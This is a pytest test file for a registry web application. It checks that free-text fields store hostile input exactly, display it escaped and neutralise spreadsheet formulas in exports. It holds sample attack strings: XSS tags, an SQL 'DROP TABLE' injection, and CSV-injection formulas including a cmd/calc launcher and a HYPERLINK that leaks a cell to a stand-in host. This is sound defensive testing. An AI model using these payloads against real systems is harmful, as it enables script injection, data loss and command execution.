"""Hostile input on every entity that carries free text: HTML and JavaScript, an SQL fragment,
every Estonian letter, and values at and over the column limit.

Each value is stored exactly as sent and shown escaped wherever the entity is shown: its list,
detail page and edit form, the CSV export, the API's JSON, the audit screen (the change
record) and the home page. A value over the column's limit is a clean 422 or form error,
never a 500. The raw markup never reaches a page: `<script>alert(1)</script>` and
`<img src=x onerror=alert(1)>` are absent, their escaped forms present.
"""
from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass

import pytest
import sqlalchemy as sa
from markupsafe import escape

from app import models as m
from app.audit import acting_as
from app.views.base import ScopedModelRestApi, ScopedModelView
from tests.test_accounts import NEW_CODE, request_form

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SQL = "'; DROP TABLE person; --"
LETTERS = "õäöüšž ÕÄÖÜŠŽ"
PAYLOAD = f"Õie {SCRIPT} {IMG} {SQL} {LETTERS}"
SHORT = f"Ž<marquee>{SQL}õ"  # for 64-character names
RAW = [SCRIPT, "<img src=x onerror=alert(1)>", "<marquee>"]


@dataclass
class Field:
    model: type
    field: str
    world_key: str | None  # the world's record to change; None: made by the test
    user: str = "admin"
    # "api", or "orm" where the world's records are not in a state the API lets change (its
    # result is not submitted, its decision not confirmed): written then as a job would.
    via: str = "api"


FIELDS = [
    Field(m.Person, "first_name", "p1"),
    Field(m.Person, "last_name", "p1"),
    Field(m.School, "name", "school1"),
    Field(m.AwardingBody, "name", "ab1"),
    Field(m.Curriculum, "name", "cur1"),
    Field(m.Registration, "special_arrangements", "r1"),
    Field(m.Result, "comment", "res1"),
    Field(m.Decision, "legal_basis", "d1", via="orm"),
    Field(m.Decision, "reasons", "d1", via="orm"),
    Field(m.Certificate, "holder_name", "c1", via="orm"),
    Field(m.Appeal, "description", "ap1", via="orm"),
    Field(m.JobRunError, "reason", None, via="orm"),
]


def views_of(app, model):
    """The entity's main screen (not a specialised subclass such as the problem list) and API."""
    screens = [v for v in app.appbuilder.baseviews if isinstance(v, ScopedModelView) and v.model is model]
    screen = next(v for v in screens if type(v).__name__.removesuffix("View") in model.__name__ or len(screens) == 1)
    api = next(v for v in app.appbuilder.baseviews if isinstance(v, ScopedModelRestApi) and v.model is model)
    return screen, api


def assert_safe(body: str, where: str, value: str, shown: bool) -> None:
    for raw in RAW:
        assert raw not in body, f"{where}: unescaped {raw!r}"
    if shown:
        assert str(escape(value)) in body, f"{where}: the value is not shown (escaped)"


def _job_error(db, world, value: str) -> int:
    with acting_as("hostile-test"):
        row = m.JobRunError(job_run_id=world.ids["job1"], record="rida 7", field="nimi", reason=value,
                            awarding_body_id=world.ids["ab1"])
        db.add(row)
        db.commit()
    return row.id


def _write(app, db, world, login, spec: Field, value: str) -> tuple[int, str]:
    """Store ``value`` through the API where it edits the field, else as a job would (ORM)."""
    if spec.world_key is None:
        return _job_error(db, world, value), "job"
    pk = world.ids[spec.world_key]
    _, api = views_of(app, spec.model)
    if spec.via == "api" and spec.field in api.edit_columns:
        response = login(spec.user).api("put", f"/api/{api.version}/{api.resource_name}/{pk}",
                                        json={spec.field: value})
        assert response.status_code == 200, response.json
        return pk, "api"
    with acting_as("hostile-test"):
        record = db.get(spec.model, pk)
        setattr(record, spec.field, value)
        db.commit()
    return pk, "orm"


@pytest.mark.parametrize("spec", FIELDS, ids=lambda f: f"{f.model.__name__}.{f.field}")
def test_stored_exactly_and_shown_escaped(app, world, db, login, spec):
    value = PAYLOAD
    pk, _ = _write(app, db, world, login, spec, value)
    db.expire_all()
    assert db.scalar(sa.select(getattr(spec.model, spec.field)).where(spec.model.id == pk)) == value
    assert db.scalar(sa.select(sa.func.count()).select_from(m.Person)) >= 2  # the table is still there

    screen, api = views_of(app, spec.model)
    client = login(spec.user)
    base = screen.route_base
    pages = {
        "list": (f"{base}/list/", spec.field in screen.list_columns),
        "show": (f"{base}/show/{pk}", spec.field in screen.show_columns),
    }
    if "can_edit" in screen.base_permissions and spec.field in (screen.edit_columns or []):
        pages["edit"] = (f"{base}/edit/{pk}", True)
    for where, (url, shown) in pages.items():
        response = client.get(url)
        assert response.status_code == 200, (where, url, response.status_code)
        assert_safe(response.get_data(as_text=True), f"{spec.model.__name__} {where}", value, shown)

    # CSV: the value as it is (a spreadsheet cell, not HTML)
    response = client.get(f"{base}/export/csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
             for cell in row]
    if spec.field in screen.list_columns:
        assert value in cells, "CSV export"

    # API JSON: the exact string, and no markup unescaped by the JSON encoder either
    response = client.api("get", f"/api/{api.version}/{api.resource_name}/{pk}")
    assert response.status_code == 200
    if spec.field in api.show_columns:
        assert response.json["result"][spec.field] == value
    assert response.mimetype == "application/json"

    # The audit screen: the change record of this write, and the home page
    admin = login("admin")
    if spec.model.__audited__:
        event = db.scalars(sa.select(m.AuditEvent).where(
            m.AuditEvent.entity == spec.model.__name__, m.AuditEvent.entity_id == pk,
        ).order_by(m.AuditEvent.id.desc())).first()
        assert event is not None and event.changes[spec.field][1] == value
        response = admin.get(f"/auditeventview/show/{event.id}")
        assert response.status_code == 200
        assert_safe(response.get_data(as_text=True), "audit show", value, shown=True)
        response = admin.get("/auditeventview/list/")
        assert_safe(response.get_data(as_text=True), "audit list", value, shown=True)
    for user in {"admin", spec.user, "registry", "ab1"}:
        response = login(user).get("/")
        assert response.status_code == 200
        assert_safe(response.get_data(as_text=True), f"home page of {user}", value, shown=False)


LIMITED = [(m.Person, "first_name", "p1", 255), (m.School, "name", "school1", 255),
           (m.AwardingBody, "name", "ab1", 255), (m.Curriculum, "name", "cur1", 255),
           (m.OccupationalStandard, "name", "s1", 255)]


@pytest.mark.parametrize(("model", "field", "key", "limit"), LIMITED, ids=lambda x: getattr(x, "__name__", str(x)))
def test_values_at_and_over_the_column_limit(app, world, db, login, model, field, key, limit):
    assert model.__table__.c[field].type.length == limit
    screen, api = views_of(app, model)
    client = login("admin")
    pk = world.ids[key]
    url = f"/api/{api.version}/{api.resource_name}/{pk}"
    if field not in api.edit_columns:
        pytest.skip(f"{model.__name__}.{field} is not edited through the API")
    at_limit = ("Õ<" * limit)[:limit]
    response = client.api("put", url, json={field: at_limit})
    assert response.status_code == 200, response.json
    db.expire_all()
    assert getattr(db.get(model, pk), field) == at_limit
    for over in (at_limit + "ž", "x" * 100_000):
        response = client.api("put", url, json={field: over})
        assert response.status_code == 422, response.json
        assert list(response.json["message"]) == [field]
    db.expire_all()
    assert getattr(db.get(model, pk), field) == at_limit

    # The screen's form: an error under the field, the record unchanged
    if "can_edit" in screen.base_permissions and field in (screen.edit_columns or []):
        form = _form_values(client, f"{screen.route_base}/edit/{pk}")
        response = client.post(f"{screen.route_base}/edit/{pk}", data={**form, field: at_limit + "ž"})
        assert response.status_code == 200
        assert "help-block" in response.get_data(as_text=True) or "has-error" in response.get_data(as_text=True)
        db.expire_all()
        assert getattr(db.get(model, pk), field) == at_limit


def test_long_free_text_is_stored(app, world, db, login):
    """Text columns have no limit: a long value is stored and shown whole."""
    value = (PAYLOAD + "\n") * 500  # ~55 000 characters
    response = login("admin").api("put", f"/api/v1/result/{world.ids['res1']}", json={"comment": value})
    assert response.status_code == 200, response.json
    db.expire_all()
    assert db.get(m.Result, world.ids["res1"]).comment == value
    page = login("admin").get(f"/resultview/show/{world.ids['res1']}").get_data(as_text=True)
    assert_safe(page, "result show", value.splitlines()[0], shown=True)


def _form_values(client, url: str) -> dict:
    """The values an edit form would send back unchanged (inputs, selects, text areas)."""
    from lxml import html

    doc = html.fromstring(client.get(url).get_data(as_text=True))
    form = doc.xpath("//form[.//input[@type='submit'] or .//button[@type='submit']]")[0]
    values = {}
    for element in form.xpath(".//input[@name] | .//select[@name] | .//textarea[@name]"):
        name = element.get("name")
        if element.tag == "select":
            chosen = element.xpath(".//option[@selected]/@value")
            values[name] = chosen[0] if chosen else ""
        elif element.tag == "textarea":
            values[name] = element.text or ""
        elif element.get("type") == "checkbox":
            if element.get("checked") is not None:
                values[name] = element.get("value") or "y"
        else:
            values[name] = element.get("value") or ""
    return values


def test_person_form_stores_hostile_names_exactly(app, world, db, login):
    client = login("registry")
    pk = world.ids["p1"]
    form = _form_values(client, f"/personview/edit/{pk}")
    response = client.post(f"/personview/edit/{pk}", data={**form, "first_name": PAYLOAD, "last_name": SQL})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    db.expire_all()
    person = db.get(m.Person, pk)
    assert (person.first_name, person.last_name) == (PAYLOAD, SQL)
    page = client.get(f"/personview/show/{pk}").get_data(as_text=True)
    assert_safe(page, "person show", PAYLOAD, shown=True)


def test_account_request_through_the_public_form(app, world, db, login):
    from tests.conftest import Client

    public = Client(app, None)
    justification = PAYLOAD + "\n" + "Põhjendus " * 2000
    response = public.post("/taotlus/form", data=request_form(first_name=SHORT, last_name=LETTERS,
                                                               justification=justification))
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    req = db.scalars(sa.select(m.AccountRequest).where(m.AccountRequest.isikukood == NEW_CODE)).one()
    assert (req.first_name, req.last_name, req.justification) == (SHORT, LETTERS, justification)
    client = login("registry")
    for url in ("/accountrequestview/list/", f"/accountrequestview/show/{req.id}"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_safe(response.get_data(as_text=True), url, SHORT, shown=True)
    body = client.api("get", f"/api/v1/account_request/{req.id}").json
    assert body["result"]["first_name"] == SHORT
    # over the limit: a form error, nothing stored
    response = public.post("/taotlus/form", data=request_form(first_name="Õ" * 65, isikukood="39001010044"))
    assert response.status_code == 200
    assert db.scalar(sa.select(sa.func.count()).select_from(m.AccountRequest)) == 1


def test_json_never_carries_raw_markup_into_a_page(app, world, db, login):
    """The API answers JSON (not HTML) with the exact text: a browser never renders it."""
    pk = world.ids["p1"]
    login("admin").api("put", f"/api/v1/person/{pk}", json={"first_name": PAYLOAD})
    response = login("admin").api("get", f"/api/v1/person/{pk}")
    assert response.mimetype == "application/json"
    assert json.loads(response.get_data(as_text=True))["result"]["first_name"] == PAYLOAD


# --------------------------------------------------------------------------- formula injection

FORMULAS = {  # OWASP "CSV injection": text a spreadsheet program would run
    "p1": ('=HYPERLINK("http://example.invalid/?x="&A1,"Ava")', "+SUM(1,2)"),
    "p2": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
}


def _xlsx_cells(response):
    import openpyxl

    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    return [list(row) for row in sheet.iter_rows()]


def test_exports_write_formula_text_as_inert_text(app, world, db, login):
    """A name typed as a formula is exported with a leading apostrophe, as a text cell (CSV and
    XLSX), while the stored name stays exactly as typed and dates keep their type."""
    import datetime as dt

    with acting_as("hostile-test"):
        for key, (first, last) in FORMULAS.items():
            person = db.get(m.Person, world.ids[key])
            person.first_name, person.last_name = first, last
        db.get(m.Person, world.ids["p1"]).birth_date = dt.date(1980, 1, 8)
        db.commit()
    client = login("admin")

    response = client.get("/personview/export/csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    by_code = {row[2]: row for row in rows[1:]}
    for key, (first, last) in FORMULAS.items():
        row = by_code[db.get(m.Person, world.ids[key]).isikukood]
        assert row[:2] == ["'" + first, "'" + last], row
    assert by_code[db.get(m.Person, world.ids["p1"]).isikukood][3] == "08.01.1980"

    cells = _xlsx_cells(client.get("/personview/export/xlsx"))
    by_code = {row[2].value: row for row in cells[1:]}
    for key, (first, last) in FORMULAS.items():
        row = by_code[db.get(m.Person, world.ids[key]).isikukood]
        assert [c.value for c in row[:2]] == ["'" + first, "'" + last]
        assert [c.data_type for c in row[:2]] == ["s", "s"], "a text cell, never a formula"
    birth = by_code[db.get(m.Person, world.ids["p1"]).isikukood][3]
    assert birth.is_date and birth.value.date() == dt.date(1980, 1, 8)

    db.expire_all()  # only the exported cell is changed, never the stored name
    for key, (first, last) in FORMULAS.items():
        person = db.get(m.Person, world.ids[key])
        assert (person.first_name, person.last_name) == (first, last)


def test_data_access_history_csv_is_inert(app, world, db, login):
    code = db.get(m.Person, world.ids["p1"]).isikukood
    db.add(m.DataAccess(actor="=1+1", isikukood=code, channel="api", endpoint="@SUM(A1)", entity="Person",
                        entity_id=-1))
    db.commit()
    response = login("registry").get(f"/dataaccessview/person.csv?isikukood={code}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert [(r[1], r[4], r[6]) for r in rows[1:]] == [("'=1+1", "'@SUM(A1)", "-1")]


def test_one_rule_for_every_cell_numbers_and_dates_keep_their_type(app):
    """``inert`` changes text only: a negative number, a decimal, a date stay what they are, in
    the CSV text (no apostrophe) and as typed XLSX cells."""
    import datetime as dt
    from decimal import Decimal

    import openpyxl

    from app.services import exports as ex

    assert [ex.inert(v) for v in ("=A1", "+1", "-1", "@x", "\tx", "\rx", "", "a=b", "–5")] == \
        ["'=A1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "", "a=b", "–5"]
    assert [ex.inert(v) for v in (-5, -2.5, Decimal("-1.5"), dt.date(2025, 1, 2), None)] == \
        [-5, -2.5, Decimal("-1.5"), dt.date(2025, 1, 2), None]

    row = [-5, Decimal("-1.5"), -2.5, dt.date(2025, 1, 2), dt.datetime(2025, 1, 2, 10, 0, tzinfo=dt.UTC),
           "=cmd", "-text"]
    with app.test_request_context():
        text = "".join(ex.csv_lines(["a", "b", "c", "d", "e", "f", "g"], [row]))
        assert next(csv.reader(io.StringIO(text.lstrip("\ufeff").splitlines()[1]), delimiter=";")) == \
            ["-5", "-1,5", "-2,5", "02.01.2025", "02.01.2025 12:00", "'=cmd", "'-text"]
        buf = io.BytesIO()
        ex.write_xlsx(buf, ["a", "b", "c", "d", "e", "f", "g"], [row])
    cells = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())[1]
    assert [c.value for c in cells[:3]] == [-5, -1.5, -2.5] and [c.data_type for c in cells[:3]] == ["n"] * 3
    assert cells[3].is_date and cells[3].value == dt.datetime(2025, 1, 2)
    assert cells[4].is_date and cells[4].value == dt.datetime(2025, 1, 2, 12, 0)
    assert [(c.value, c.data_type) for c in cells[5:]] == [("'=cmd", "s"), ("'-text", "s")]
